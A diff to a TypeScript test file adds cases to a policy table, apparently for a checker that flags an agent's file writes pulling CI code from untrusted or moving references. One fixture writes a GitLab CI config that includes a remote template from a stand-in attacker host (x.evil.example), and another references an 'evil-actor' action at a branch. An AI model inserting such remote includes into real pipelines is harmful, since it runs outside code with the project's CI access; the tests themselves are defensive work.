@@ -5,6 +5,7 @@ import { join } from 'node:path';
 import { ready, verdictOf } from './harness';
 import { aTempDir } from '../../builders/tempProject';
 import { policyTable } from './table';
+import { aWrite } from './harness';
 
 const workflow = (file: string, content: string) => ({
   tool: 'Write',
@@ -103,6 +104,22 @@ const withStep = (step: string) =>
   ].join('\n');
 
 policyTable('ci-action-on-moving-ref', [
+  {
+    note: 'a GitLab include of a template from a URL',
+    spec: aWrite(
+      '.gitlab-ci.yml',
+      'include:\n  - project: acme-corp/ci-templates\n    ref: v4.1.0\n    file: /ruby.yml\n  - remote: https://x.evil.example/ci/security-scan.yml\nstages: [test]\n',
+    ),
+    expect: 'ask',
+  },
+  {
+    note: "near miss: a GitLab include of the organisation's template project at a ref, and one from its own network",
+    spec: aWrite(
+      '.gitlab-ci.yml',
+      "include:\n  - project: acme-corp/ci-templates\n    ref: v4.1.0\n    file: /ruby.yml\n  - remote: 'https://gitlab.acme.internal/ci/base.yml'\nstages: [test]\n",
+    ),
+    expect: null,
+  },
   {
     note: "another owner's action at a branch",
     spec: workflow('ci.yml', withStep('evil-actor/setup-cache@main')),
